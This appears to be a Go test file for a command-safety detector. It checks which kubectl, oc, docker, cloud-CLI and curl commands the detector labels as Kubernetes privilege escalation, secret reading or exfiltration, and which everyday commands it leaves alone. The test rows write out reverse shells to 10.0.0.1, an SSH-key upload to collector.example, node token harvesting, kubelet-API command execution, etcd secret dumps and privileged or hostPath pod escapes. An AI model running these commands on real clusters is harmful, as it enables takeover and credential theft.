package danger

import (
	"testing"
)

// Tests of cluster.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestKubePatchHostAccess: a running workload patched into host access
// is privilege-escalation, as a pod run with those --overrides already is
// (kubectl patch reference; the Pod Security Standards name privileged,
// hostPID, hostIPC, hostNetwork, hostPath and allowPrivilegeEscalation as
// what the privileged level allows), and so is a namespace relabelled to
// the privileged level (pod-security.kubernetes.io/enforce=privileged);
// other patches and labels stay everyday (dev i0280).
func TestKubePatchHostAccess(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}'`, PrivilegeEscalation},
		{`kubectl patch deploy web --type merge -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'`, PrivilegeEscalation},
		{`kubectl patch ds agent --patch '{"spec":{"template":{"spec":{"volumes":[{"name":"root","hostPath":{"path":"/"}}]}}}}'`, PrivilegeEscalation},
		{`oc patch dc web -p '{"spec":{"template":{"spec":{"hostNetwork": true}}}}'`, PrivilegeEscalation},
		{"kubectl label --overwrite ns default pod-security.kubernetes.io/enforce=privileged", PrivilegeEscalation},
		{`kubectl patch po demo --type 'json' --patch '[{"op": "replace", "path": "/spec/containers/0/image", "value":"nginx"}]'`, ""},
		{`kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":false}}]}}}}'`, ""},
		{"kubectl label ns default pod-security.kubernetes.io/enforce=restricted", ""},
		{"kubectl label pods web tier=frontend", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestNodeCredentialsUsed: kubectl, oc or helm run with a credential the
// node keeps for the cluster's own components is a login with another's
// credentials (README's Kubernetes Goat call: privilege-escalation). The
// files are those kubeadm's "PKI certificates and requirements" page, the
// kubelet's --kubeconfig, k3s', RKE2's and microk8s' access pages name;
// system:masters is the group the RBAC page says bypasses authorization.
// The everyday forms: the user's own kubeconfig, setting KUBECONFIG alone
// (heldout10 w0663), help, another group impersonated for a question
// (heldout10 w0892's auth can-i).
func TestNodeCredentialsUsed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes", PrivilegeEscalation},
		{"kubectl --kubeconfig=/etc/kubernetes/super-admin.conf get secrets -A", PrivilegeEscalation},
		{"kubectl get pods -A --kubeconfig /etc/kubernetes/kubelet.conf", PrivilegeEscalation},
		{"kubectl --kubeconfig /etc/kubernetes/controller-manager.conf get secrets -n kube-system", PrivilegeEscalation},
		{"kubectl --kubeconfig /etc/kubernetes/scheduler.conf auth can-i --list", PrivilegeEscalation},
		{"kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods", PrivilegeEscalation},
		{"KUBECONFIG=/etc/kubernetes/admin.conf kubectl get all -n kube-system", PrivilegeEscalation},
		{"KUBECONFIG=/etc/rancher/k3s/k3s.yaml kubectl get nodes", PrivilegeEscalation},
		{"oc --kubeconfig /etc/rancher/rke2/rke2.yaml get nodes", PrivilegeEscalation},
		{"helm --kubeconfig /etc/kubernetes/admin.conf list -A", PrivilegeEscalation},
		{"kubectl --kubeconfig /var/snap/microk8s/current/credentials/client.config get pods", PrivilegeEscalation},
		{"kubectl --server https://10.0.0.1:6443 --client-certificate /var/lib/kubelet/pki/kubelet-client-current.pem --client-key /var/lib/kubelet/pki/kubelet-client-current.pem get pods", PrivilegeEscalation},
		{"kubectl --client-key=/etc/kubernetes/pki/apiserver-kubelet-client.key --client-certificate=/etc/kubernetes/pki/apiserver-kubelet-client.crt get secrets", PrivilegeEscalation},
		{"kubectl --as=admin --as-group=system:masters get secrets -A", PrivilegeEscalation},
		{"kubectl --kubeconfig ~/.kube/config get pods", ""},
		{"kubectl --kubeconfig ./dev.yaml get nodes", ""},
		{"KUBECONFIG=~/.kube/staging kubectl get pods", ""},
		{"export KUBECONFIG=/etc/kubernetes/admin.conf", ""},
		{"kubectl --kubeconfig /etc/kubernetes/admin.conf --help", ""},
		{"kubectl --as=system:serviceaccount:ns-denny:test-privileged-sa -n ns-denny auth can-i use pods/list", ""},
		{"kubectl --as-group=developers --as=jane get pods", ""},
		{"kubectl --client-key ./me.key --client-certificate ./me.crt get pods", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes", PrivilegeEscalation, "nodeCredentialsUsed",
		[]string{"kubectl", "--kubeconfig", "/etc/kubernetes/admin.conf"})
}

// TestPodRunAsAccount: a pod run as a service account the line names is
// privilege-escalation (README's Kubernetes Goat call:
// --serviceaccount=tiller). kubectl run's --serviceaccount (kubectl
// reference to 1.23) and --overrides with the Pod spec's
// serviceAccountName or its deprecated alias serviceAccount (Pod API
// reference); a plain run, the default account and a dry run stay
// everyday.
func TestPodRunAsAccount(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl run -n kube-system --serviceaccount=tiller --rm --restart=Never -it --image=madhuakula/hacker-container -- bash", PrivilegeEscalation},
		{"kubectl run shell --serviceaccount clusterrole-aggregation-controller -n kube-system --image=alpine -- sleep 3600", PrivilegeEscalation},
		{`kubectl run shell -n kube-system --image=alpine --overrides='{"spec":{"serviceAccountName":"cluster-admin-sa"}}' -- sleep 1d`, PrivilegeEscalation},
		{`oc run shell --image=alpine --overrides='{"apiVersion":"v1","spec":{"serviceAccount": "builder"}}'`, PrivilegeEscalation},
		{"kubectl run nginx --image=nginx", ""},
		{"kubectl run -n kube-system dnsutils --image=registry.k8s.io/e2e-test-images/jessie-dnsutils:1.3 -- sleep infinity", ""},
		{"kubectl run shell --serviceaccount=default --image=alpine", ""},
		{`kubectl run shell --image=alpine --overrides='{"spec":{"serviceAccountName":"default"}}'`, ""},
		{"kubectl run shell --serviceaccount=tiller --image=alpine --dry-run=client -o yaml", ""},
		{"kubectl get serviceaccounts -n kube-system", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl run -n kube-system --serviceaccount=tiller --image=alpine", PrivilegeEscalation, "podRunAsAccount",
		[]string{"kubectl", "run", "--serviceaccount", "tiller"})
}

// TestManifestNamedUnsafe: a manifest applied whose name says it makes a
// privileged pod or one with a hostPath volume (the Pod Security
// Standards' privileged-only controls) is privilege-escalation, one named
// for a reverse shell network-exfiltration (README's badPods call: a public
// manifest is labelled by what it is named for). Forms from the kubectl
// reference (apply|create|replace, -f, --filename=, a URL, stdin filled
// by envsubst or cat); the everyday ones beside them: an ordinary
// manifest, hostPID, hostIPC or hostNetwork alone (as docker's --pid=host
// alone), a dry run, get and delete -f (deletion is another rule's), a
// name that only contains the letters ("private-registry.yaml").
func TestManifestNamedUnsafe(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl apply -f ./manifests/priv/pod/priv-exec-pod.yaml", PrivilegeEscalation},
		{"kubectl create -f privileged-pod.yaml", PrivilegeEscalation},
		{"kubectl apply -f https://raw.githubusercontent.com/example/k8s-escapes/main/hostpath-root-pod.yaml", PrivilegeEscalation},
		{"kubectl apply --filename=deploy/priv_daemonset.yml", PrivilegeEscalation},
		{"oc create -f pods/hostPath-mount.json", PrivilegeEscalation},
		{"kubectl replace --force -f privileged-debug.yaml", PrivilegeEscalation},
		{`HOST="10.0.0.1" PORT="3116" envsubst < ./manifests/hostpid/pod/hostpid-revshell-pod.yaml | kubectl apply -f -`, NetworkExfiltration},
		{`HOST="10.0.0.1" PORT="3113" envsubst < ./yaml/priv/pod-priv-revshell.yaml | kubectl apply -f -`, PrivilegeEscalation},
		{"cat reverse-shell-job.yaml | kubectl create -f -", NetworkExfiltration},
		{"kubectl apply -f ./manifests/hostpid/pod/hostpid-exec-pod.yaml", ""},
		{"kubectl apply -f manifests/hostnetwork/cronjob/hostnetwork-exec-cronjob.yaml", ""},
		{"kubectl apply -f deployment.yaml", ""},
		{"kubectl apply -f k8s/private-registry.yaml", ""},
		{"kubectl create -f src/cronjob.yaml -n default", ""},
		{"kubectl apply --dry-run=client -f privileged-pod.yaml", ""},
		{"kubectl get -f privileged-pod.yaml", ""},
		{"envsubst < deployment.yaml | kubectl apply -f -", ""},
		{"kubectl apply -f https://priv.example.com/app/deployment.yaml", ""},
		// A hostPath PersistentVolume, claim or provisioner is storage,
		// not a pod given the node (Kubernetes docs' storage pages).
		{"kubectl apply -f hostpath-pv.yaml", ""},
		{"kubectl create -f storage/hostpath-storageclass.yaml", ""},
		{"kubectl apply -f https://raw.githubusercontent.com/example/charts/main/hostpath-provisioner.yaml", ""},
		// A policy, role or binding named for the level it grants or
		// denies makes no pod (the Kubernetes docs' Pod Security
		// Policies page applies policy/privileged-psp.yaml; heldout12's
		// y0658, y0680 and y0771, read after its one figure, stage 22).
		{"kubectl apply -f https://k8s.io/examples/policy/privileged-psp.yaml", ""},
		{"kubectl apply -f psp-deny-privileged.yaml", ""},
		{"kubectl apply -f psp-deny-privileged-clusterrolebinding.yaml", ""},
		{"kubectl create -f privileged-clusterrole.yaml", ""},
		{"kubectl apply -f kyverno/disallow-privileged-containers-policy.yaml", ""},
		{"kubectl apply -f pods/privileged-debug-pod.yaml", PrivilegeEscalation},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl apply -f ./manifests/priv/pod/priv-exec-pod.yaml", PrivilegeEscalation, "manifestNamedUnsafe",
		[]string{"kubectl", "apply", "-f", "./manifests/priv/pod/priv-exec-pod.yaml"})
}

// TestNodeTokensUsed: every pod's service-account token on the node,
// read from the kubelet's pods folder and passed to kubectl --token, is a
// login with others' credentials (README's badPods call). A literal token
// or one read from elsewhere stays everyday, as does only listing where
// the tokens are (README: finding where secrets are).
func TestNodeTokensUsed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"for t in $(find /var/lib/kubelet/pods/ -name token -type l); do kubectl --token=$(cat $t) auth can-i --list; done", PrivilegeEscalation},
		{"tokens=`kubectl exec -it priv-pod -- find /var/lib/kubelet/pods/ -name token -type l`; for f in $tokens; do tok=`kubectl exec -it priv-pod -- cat $f`; kubectl --server=$SERVER --insecure-skip-tls-verify --token $tok auth can-i --list -n kube-system; done", PrivilegeEscalation},
		{"kubectl --token=$TOKEN get pods", ""},
		{"kubectl --token=abc123 get pods", ""},
		{"find /var/lib/kubelet/pods/ -name token -type l", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterNodeFiles: the node's file system mounted into a container
// under another name than /host (Kubernetes Goat's /host-system, Elastic
// agents' /hostfs, a /host-root mount) entered with chroot is a container
// escape (README: chroot /host), and etcd's database (its data folder's
// member/snap/db and member/wal, etcd's "data directory" page) holds every
// Secret of the cluster: read, it is secret-read. A build root, a chroot
// of /, listing etcd's folder and etcdctl's own keys stay everyday.
func TestClusterNodeFiles(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"chroot /host-system bash", PrivilegeEscalation},
		{"chroot /host-root /bin/sh", PrivilegeEscalation},
		{"chroot /hostfs", PrivilegeEscalation},
		{"chroot ./rootfs /bin/bash", ""},
		{"chroot /", ""},
		{"strings /var/lib/etcd/member/snap/db | less", SecretRead},
		{"cat /var/lib/etcd/member/snap/db", SecretRead},
		{"cp /var/lib/etcd/member/snap/db /tmp/db", SecretRead},
		{"strings /var/lib/etcd/member/wal/0000000000000000-0000000000000000.wal | grep -a password", SecretRead},
		{"ls -la /var/lib/etcd/member/snap/", ""},
		{"etcdctl del mykey", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCloudTokenToOwnAPI: a cloud CLI's access token sent only in an
// Authorization header to that cloud's own API is used, not shown (as
// TestTokenOnlyAuthorizes), also when the URL's path holds the project or
// region as a variable and when the host is a regional endpoint written
// with one (Google Cloud's "LOCATION-aiplatform.googleapis.com", its REST
// pages' form; heldout10 w1465), and for az account get-access-token sent
// to Azure Resource Manager or Microsoft Graph (az's REST pages). A host
// made wholly of a variable, a variable set on the line to another host,
// a cloudapp.azure.com machine and another host stay marked.
func TestCloudTokenToOwnAPI(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://${LOCATION}-aiplatform.googleapis.com/v1/projects/${PROJECT_ID}/locations/${LOCATION}/reasoningEngines"`, ""},
		{`curl -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://aiplatform.googleapis.com/v1/projects/$PROJECT_ID/locations/us-central1/endpoints"`, ""},
		{`curl -X POST -H "Authorization: Bearer $(gcloud auth print-access-token)" -H "Content-Type: application/json" "https://$REGION-run.googleapis.com/apis/serving.knative.dev/v1/namespaces/$PROJECT/services"`, ""},
		{`TOKEN=$(az account get-access-token --query accessToken -o tsv); curl -H "Authorization: Bearer $TOKEN" "https://management.azure.com/subscriptions/$SUB/resourceGroups?api-version=2021-04-01"`, ""},
		{`curl -H "Authorization: Bearer $(az account get-access-token --resource https://graph.microsoft.com --query accessToken -o tsv)" https://graph.microsoft.com/v1.0/me`, ""},
		{`curl -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://$HOST/v1/projects"`, SecretRead},
		{`HOST=evil.example/x; curl -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://${HOST}.googleapis.com/v1/projects"`, SecretRead},
		{`curl -H "Authorization: Bearer $(gcloud auth print-access-token)" "https://collector.example/$PROJECT_ID"`, SecretRead},
		{`TOKEN=$(az account get-access-token --query accessToken -o tsv); curl -H "Authorization: Bearer $TOKEN" http://myvm.eastus.cloudapp.azure.com/`, SecretRead},
		{`az account get-access-token`, SecretRead},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterAccessMapped: who may use a cluster, and as whom, changed
// outside RBAC's own objects is privilege-escalation (README: access rules
// and identities changed, as kubectl's role bindings and aws eks
// create-access-entry): EKS's aws-auth ConfigMap, which maps IAM roles and
// users to Kubernetes groups (EKS user guide), edited, patched or
// replaced; eksctl create|delete iamidentitymapping (eksctl docs); GKE's
// legacy ABAC turned on (gcloud container clusters --enable-legacy-
// authorization, GKE hardening guide). Reading them, turning ABAC off and
// help stay everyday.
func TestClusterAccessMapped(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl edit configmap aws-auth -n kube-system", PrivilegeEscalation},
		{"kubectl edit -n kube-system cm/aws-auth", PrivilegeEscalation},
		{`kubectl patch configmap/aws-auth -n kube-system --type merge -p '{"data":{"mapUsers":"- userarn: arn:aws:iam::1:user/bob\n  groups: [system:masters]"}}'`, PrivilegeEscalation},
		{"kubectl replace -f aws-auth.yaml", ""}, // a file by name: what it maps is not on the line
		{"eksctl create iamidentitymapping --cluster c --arn arn:aws:iam::1:role/r --group system:masters --username admin", PrivilegeEscalation},
		{"eksctl delete iamidentitymapping --cluster c --arn arn:aws:iam::1:role/r", PrivilegeEscalation},
		{"gcloud container clusters update c --zone z --enable-legacy-authorization", PrivilegeEscalation},
		{"gcloud container clusters create c --zone z --enable-legacy-authorization", PrivilegeEscalation},
		{"kubectl get configmap aws-auth -n kube-system -o yaml", ""},
		{"kubectl describe cm aws-auth -n kube-system", ""},
		{"kubectl edit configmap app-settings -n default", ""},
		{"eksctl get iamidentitymapping --cluster c", ""},
		{"gcloud container clusters update c --zone z --no-enable-legacy-authorization", ""},
		{"eksctl create iamidentitymapping --help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "eksctl create iamidentitymapping --cluster c --arn arn:aws:iam::1:role/r --group system:masters", PrivilegeEscalation,
		"clusterAccessMapped", []string{"eksctl", "create", "iamidentitymapping"})
}

// TestClusterAPIOpened: a cluster's API server opened to any address is
// disk-system (README's heldout10 call: public network access turned on,
// as cloudAccessOpened's): GKE's authorized networks turned off or set to
// 0.0.0.0/0 (gcloud container clusters create|update), AKS's authorized
// IP ranges cleared or set to 0.0.0.0/0 (az aks create|update), EKS's
// public endpoint turned on without a narrower publicAccessCidrs (aws eks
// create-cluster|update-cluster-config --resources-vpc-config, EKS user
// guide: the default CIDR is 0.0.0.0/0). Narrow ranges, the private
// endpoint and reads stay everyday.
func TestClusterAPIOpened(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud container clusters update c --zone z --no-enable-master-authorized-networks", DiskSystem},
		{"gcloud container clusters update c --enable-master-authorized-networks --master-authorized-networks 0.0.0.0/0", DiskSystem},
		{`az aks update -g rg -n c --api-server-authorized-ip-ranges ""`, DiskSystem},
		{"az aks update -g rg -n c --api-server-authorized-ip-ranges 0.0.0.0/0", DiskSystem},
		{"aws eks update-cluster-config --name c --resources-vpc-config endpointPublicAccess=true", DiskSystem},
		{`aws eks update-cluster-config --name c --resources-vpc-config endpointPublicAccess=true,publicAccessCidrs="0.0.0.0/0",endpointPrivateAccess=true`, DiskSystem},
		{"gcloud container clusters update c --enable-master-authorized-networks --master-authorized-networks 203.0.113.0/24", ""},
		{"az aks update -g rg -n c --api-server-authorized-ip-ranges 73.140.245.0/24", ""},
		{`aws eks update-cluster-config --name c --resources-vpc-config endpointPublicAccess=true,publicAccessCidrs="203.0.113.5/32"`, ""},
		{"aws eks update-cluster-config --name c --resources-vpc-config endpointPublicAccess=false,endpointPrivateAccess=true", ""},
		{"gcloud container clusters describe c --zone z", ""},
		{"az aks show -g rg -n c --query apiServerAccessProfile", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestRuntimeSocketsAndKubelet: the node's container runtime driven
// from a container or another host is a container escape
// (privilege-escalation, README: the host's / mounted, privileged
// containers, the Docker socket). Members from the runtimes' docs: the
// sockets of containerd (/run/containerd/containerd.sock, k3s'
// /run/k3s/containerd/containerd.sock), CRI-O (/var/run/crio/crio.sock),
// Podman (/run/podman/podman.sock) and cri-dockerd mounted into a
// container or a pod (docker run -v, kubectl run --overrides hostPath);
// ctr's and nerdctl's --address before the verb (their global options);
// the kubelet's API on port 10250 told to run a command in a pod
// (/run/NS/POD/CONTAINER, /exec/…: the kubelet's server API, reached
// without the API server's authorization), and kubeletctl exec|run|scan
// rce|scan token. Listing pods through the kubelet, its health check,
// ordinary volumes and help stay everyday.
func TestRuntimeSocketsAndKubelet(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"docker run -v /run/containerd/containerd.sock:/run/containerd/containerd.sock -it alpine sh", PrivilegeEscalation},
		{"docker run -v /var/run/crio/crio.sock:/crio.sock alpine", PrivilegeEscalation},
		{"podman run --volume=/run/podman/podman.sock:/run/podman/podman.sock quay.io/podman/stable", PrivilegeEscalation},
		{"docker run --mount type=bind,src=/run/k3s/containerd/containerd.sock,dst=/c.sock alpine", PrivilegeEscalation},
		{`kubectl run x --image=alpine --overrides='{"spec":{"containers":[{"name":"x","image":"alpine","volumeMounts":[{"mountPath":"/var/run/docker.sock","name":"s"}]}],"volumes":[{"name":"s","hostPath":{"path":"/var/run/docker.sock"}}]}}'`, PrivilegeEscalation},
		{`kubectl run x --image=alpine --overrides='{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/etc"}}]}}'`, PrivilegeEscalation},
		{`kubectl run x --image=alpine --overrides='{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/var/lib/kubelet"}}]}}'`, PrivilegeEscalation},
		{`kubectl run x --image=alpine --overrides='{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/tmp/cache"}}]}}'`, ""},
		{"ctr --address /run/containerd/containerd.sock run --privileged --rm -t docker.io/library/alpine:latest x sh", PrivilegeEscalation},
		{"ctr -n k8s.io run --mount type=bind,src=/,dst=/host,options=rbind:rw --rm -t docker.io/library/alpine:latest x sh", PrivilegeEscalation},
		{"nerdctl --address /run/k3s/containerd/containerd.sock run -v /:/host -it alpine sh", PrivilegeEscalation},
		{"nerdctl -n k8s.io run --privileged -it alpine sh", PrivilegeEscalation},
		{`curl -sk https://10.0.0.1:10250/run/default/nginx/nginx -d "cmd=id"`, PrivilegeEscalation},
		{`curl -k -XPOST "https://node1:10250/exec/kube-system/kube-proxy-abc/kube-proxy?command=id&input=1&output=1&tty=1"`, PrivilegeEscalation},
		{`kubeletctl exec "id" -p nginx -c nginx -n default -s 10.0.0.1`, PrivilegeEscalation},
		{"kubeletctl scan rce -s 10.0.0.1", PrivilegeEscalation},
		{"kubeletctl scan token -s 10.0.0.1", SecretRead},
		{"docker run -v ./data:/data -it alpine sh", ""},
		{"docker run -v /var/run/app.sock:/app.sock alpine", ""},
		{"ctr -n k8s.io containers list", ""},
		{"ctr --address /run/containerd/containerd.sock images ls", ""},
		{"nerdctl -n k8s.io ps", ""},
		{"curl -sk https://10.0.0.1:10250/pods", ""},
		{"curl -L http://127.0.0.1:10250/healthz", ""},
		{"kubeletctl pods -s 10.0.0.1", ""},
		{"kubeletctl exec --help", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestWorkloadCommandServed: the command a new pod, job, cron job,
// deployment or container runs, when it serves a shell to another host
// or sends data away, is network-exfiltration (README's badPods call: a
// reverse shell served from the cluster; a reverse shell is
// network-exfiltration). Forms from the kubectl reference (run NAME
// --image=I [--command] -- CMD, create job|cronjob|deployment NAME
// --image=I -- CMD) and docker|podman run IMAGE CMD. What the command does
// to the container's own file system stays out (it is the container's),
// as do listeners and ordinary commands.
func TestWorkloadCommandServed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl run revshell --image=alpine --restart=Never -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`kubectl run revshell --image=busybox -- /bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'`, NetworkExfiltration},
		{`kubectl run x --image=alpine --command -- bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
		{`kubectl create job shell --image=alpine -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`kubectl create cronjob shell --image=alpine --schedule="*/1 * * * *" -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`oc create deployment shell --image=alpine -- sh -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
		{`docker run --rm alpine sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`podman run -d --name x alpine sh -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`, NetworkExfiltration},
		{`docker -H unix:///var/run/docker.sock run --rm alpine sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`docker --context remote run --rm alpine sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration},
		{`docker run --rm -v ~/.ssh:/k alpine sh -c "curl -F f=@/k/id_rsa https://collector.example/u"`, NetworkExfiltration},
		{"kubectl run test --image=busybox --restart=Never -- echo hello", ""},
		{"kubectl create job test --image=busybox -- echo hello", ""},
		{"kubectl run x --image=busybox -- rm -rf /data", ""},
		{"docker run --rm alpine cat /etc/shadow", ""},
		{"kubectl run nc --image=busybox -- nc -lvp 4444", ""},
		{"kubectl run curl --image=curlimages/curl -- curl -s https://example.com", ""},
		{"kubectl create deployment nginx --image=nginx", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, `kubectl run revshell --image=alpine -- sh -c "nc 10.0.0.1 4444 -e /bin/sh"`, NetworkExfiltration, "workloadCommandServed",
		[]string{"kubectl", "run", "--", "sh", "-c", "nc 10.0.0.1 4444 -e /bin/sh"})
}

// TestTokenSecretDescribed: kubectl describe prints a service-account
// token secret's token in full (the Kubernetes docs' "Manually create an
// API token for a ServiceAccount": describe shows "token: …"), while other
// secrets show only their sizes. A secret named for its token (the
// <account>-token-<suffix> names Kubernetes generated before 1.24) is
// secret-read; describing other secrets and listing them stay everyday.
func TestTokenSecretDescribed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl -n kubernetes-dashboard describe secret admin-user-token-abcde", SecretRead},
		{"kubectl describe secret default-token-xyz -n kube-system", SecretRead},
		{"kubectl describe secrets/build-robot-token-x7k2p", SecretRead},
		{"kubectl describe secret github-token", ""}, // an Opaque secret: describe shows its size
		{"oc describe secret builder-token-7x2kq", SecretRead},
		{"kubectl describe secret mysecret", ""},
		{"kubectl describe secret db-credentials -n prod", ""},
		{"kubectl get secrets -n kube-system", ""},
		{"kubectl describe sa build-robot", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestWorkloadIdentityBound: a cloud role bound to a cluster's service
// account lets every pod running as it act as that role
// (privilege-escalation, README's heldout10 call: a runner made to act as
// another role, an OIDC provider or trust added). Members from each
// cloud's workload-identity docs: EKS IRSA (the eks.amazonaws.com/role-arn
// annotation, eksctl create iamserviceaccount, eksctl utils
// associate-iam-oidc-provider), EKS Pod Identity (aws eks
// create|update-pod-identity-association), GKE Workload Identity
// (iam.gke.io/gcp-service-account), Azure Workload Identity
// (azure.workload.identity/client-id). Other annotations, a binding
// removed ("KEY-") and reads stay everyday.
func TestWorkloadIdentityBound(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"kubectl annotate sa default eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"kubectl annotate serviceaccount app -n prod iam.gke.io/gcp-service-account=owner@p.iam.gserviceaccount.com --overwrite", PrivilegeEscalation},
		{"kubectl annotate serviceaccount/app azure.workload.identity/client-id=00000000-0000-0000-0000-000000000000", PrivilegeEscalation},
		{"eksctl create iamserviceaccount --cluster c --name s3-reader --namespace default --attach-policy-arn arn:aws:iam::aws:policy/AmazonS3FullAccess --approve", PrivilegeEscalation},
		{"eksctl utils associate-iam-oidc-provider --cluster c --approve", PrivilegeEscalation},
		{"aws eks create-pod-identity-association --cluster-name c --namespace default --service-account sa --role-arn arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"aws eks update-pod-identity-association --cluster-name c --association-id a-1 --role-arn arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"kubectl annotate sa default description=builds", ""},
		{"kubectl annotate sa default eks.amazonaws.com/role-arn-", ""},
		{"kubectl annotate pod web eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin", ""}, // a pod's annotation binds nothing
		{"eksctl get iamserviceaccount --cluster c", ""},
		{"aws eks list-pod-identity-associations --cluster-name c", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterAPIOverHTTP: the Kubernetes API called directly, as attack
// sheets do from inside a pod, is judged as the kubectl command it stands
// for (Kubernetes API reference paths): GET of /api/v1/[namespaces/NS/]
// secrets[/NAME] prints Secrets (secret-read, as kubectl get secret -o
// yaml), also through kubectl get --raw; a pod created by POST with a
// privileged container or a hostPath of the node's / is a container escape
// (privilege-escalation, as kubectl run --overrides); the API server's
// node proxy to the kubelet's /run or /exec runs a command in a pod
// (kubeletAPIExec's); etcd's HTTP API (port 2379) read whole (v2 keys
// recursive, v3 kv/range) holds every Secret (secret-read). Listing pods,
// the version, a DELETE (another rule's) and an ordinary pod stay
// everyday here.
func TestClusterAPIOverHTTP(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`curl -k -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets`, SecretRead},
		{"curl -sk https://10.0.0.1:6443/api/v1/namespaces/default/secrets/db", SecretRead},
		{"curl -sk https://10.0.0.1:6443/api/v1/secrets?limit=500", SecretRead},
		{"wget -qO- --no-check-certificate https://10.0.0.1:6443/api/v1/secrets", SecretRead},
		{"kubectl get --raw /api/v1/namespaces/kube-system/secrets", SecretRead},
		{`curl -k -X POST -H "Content-Type: application/json" https://10.0.0.1:6443/api/v1/namespaces/default/pods -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}'`, PrivilegeEscalation},
		{`curl -k -X POST -H "Content-Type: application/json" https://10.0.0.1:6443/api/v1/namespaces/default/pods -d '{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}],"containers":[{"name":"x","image":"alpine"}]}}'`, PrivilegeEscalation},
		{"kubectl get --raw /api/v1/nodes/node1/proxy/run/default/nginx/nginx?cmd=id", PrivilegeEscalation},
		{`curl -sk -X POST "https://10.0.0.1:6443/api/v1/nodes/node1/proxy/exec/default/web/web?command=id&output=1"`, PrivilegeEscalation},
		{"curl http://10.0.0.1:2379/v2/keys/?recursive=true", SecretRead},
		{`curl -L http://10.0.0.1:2379/v3/kv/range -X POST -d '{"key":"L3JlZ2lzdHJ5L3NlY3JldHM=","range_end":"L3JlZ2lzdHJ5L3NlY3JldHQ="}'`, SecretRead},
		{"curl -sk https://10.0.0.1:6443/api/v1/pods", ""},
		{"curl -sk https://10.0.0.1:6443/version", ""},
		{"kubectl get --raw /api/v1/namespaces/default/configmaps", ""},
		{"kubectl get --raw /metrics", ""},
		{`curl -k -X POST -H "Content-Type: application/json" https://10.0.0.1:6443/api/v1/namespaces/default/pods -d '{"spec":{"containers":[{"name":"x","image":"nginx"}]}}'`, ""},
		{"curl http://10.0.0.1:2379/version", ""},
		{"curl http://10.0.0.1:2379/v2/keys/app/config", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestClusterCredentialsMinted: a cluster user's credential minted on a
// node is privilege-escalation, as kubectl create token (credentials
// issued), and the admin's printed is secret-read. Members from each
// tool's reference: kubeadm kubeconfig user (a kubeconfig with a client
// key, for any user and group), microk8s config (the admin kubeconfig,
// printed unless written to a file, as get-credentials writes it);
